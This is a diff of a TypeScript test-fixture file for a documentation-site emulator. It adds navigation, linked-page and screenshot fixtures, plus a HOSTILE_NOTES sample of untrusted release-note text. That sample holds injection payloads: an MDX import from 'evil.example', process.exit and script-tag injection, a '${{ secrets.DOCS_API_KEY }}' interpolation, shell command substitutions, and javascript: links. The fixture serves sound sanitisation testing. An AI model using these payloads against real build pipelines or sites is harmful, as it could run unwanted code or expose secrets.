@@ -1,6 +1,6 @@
 /** What recipes of both platforms are played with. */
-import type { EmulatorOptions } from '../../src/emulator/emulator.js';
-import { samplePng } from '../../src/emulator/state/sample-files.js';
+import type { EmulatorOptions } from '../../emulator/emulator.js';
+import { samplePng } from '../../emulator/state/sample-files.js';
 
 /** Builds and renders at once. */
 export const FAST = { build: { pendingMs: 0, buildingMs: 0 }, export: { pendingMs: 0, perPageMs: 1 } };
@@ -15,7 +15,7 @@ export const TREE = {
 };
 
 /** A documentation project whose groups the recipes for generated pages keep up to date. */
-export const NAVIGATION = ['API reference', 'SDK', 'Client', 'Server'].map((group) => ({
+export const NAVIGATION = ['API reference', 'SDK', 'Client', 'Server', 'Releases'].map((group) => ({
   group,
   pages: [] as string[],
 }));
@@ -31,6 +31,46 @@ mkdirSync('docs/reference', { recursive: true });
 writeFileSync('docs/reference/client.mdx', '# Client\\n');
 `,
 };
+
+/** A site of two pages that link to each other; one also links to `elsewhere`. */
+export function linkedPages(elsewhere: string): Readonly<Record<string, string>> {
+  return {
+    'docs.json': JSON.stringify({
+      name: 'Tidewater',
+      navigation: [{ group: 'Guides', pages: ['guides/tides', 'guides/wind'] }],
+    }),
+    'guides/tides.mdx': `# Tides\n\n[Wind](/guides/wind) [Elsewhere](${elsewhere})\n`,
+    'guides/wind.mdx': '# Wind\n\n[Tides](/guides/tides)\n',
+  };
+}
+
+/** What takes screenshots in the repository of the code, and what pages get them from. */
+export const SCREENSHOTS = {
+  'scripts/take-screenshots.mjs': `import { cpSync } from 'node:fs';
+cpSync('taken', 'screenshots', { recursive: true });
+`,
+  'taken/checkout/cart.png': samplePng(4, 4, [0, 90, 200]),
+  'taken/start.png': samplePng(4, 4, [200, 90, 0]),
+};
+
+/** Release notes of strangers: code for MDX, for a shell and for expressions, and links that run code. */
+export const HOSTILE_NOTES = [
+  'Fix {process.exit(1)} and {x} by @stranger',
+  '<script>alert(1)</script> <Component x={y} /> <!-- open',
+  'import x from "https://evil.example/x.js"',
+  'export const x = 1',
+  '',
+  'import y from "y"',
+  '${{ secrets.DOCS_API_KEY }} $(touch bad) `touch bad` "; touch bad; \' \\',
+  '\\{x} \\<b> [click](javascript:alert(1)) ![pixel](data:image/svg+xml,x) [later][l] [fine](https://example.com/a)',
+  '',
+  '[l]: javascript:alert(2)',
+  '',
+  '```json',
+  '{"a": "<b>"}',
+  '```',
+  '{open',
+].join('\n');
 
 /** Pages of two packages. */
 export const PACKAGES = { 'packages/client/docs/usage.md': '# Use\n', 'packages/server/docs/usage.md': '# Run\n' };
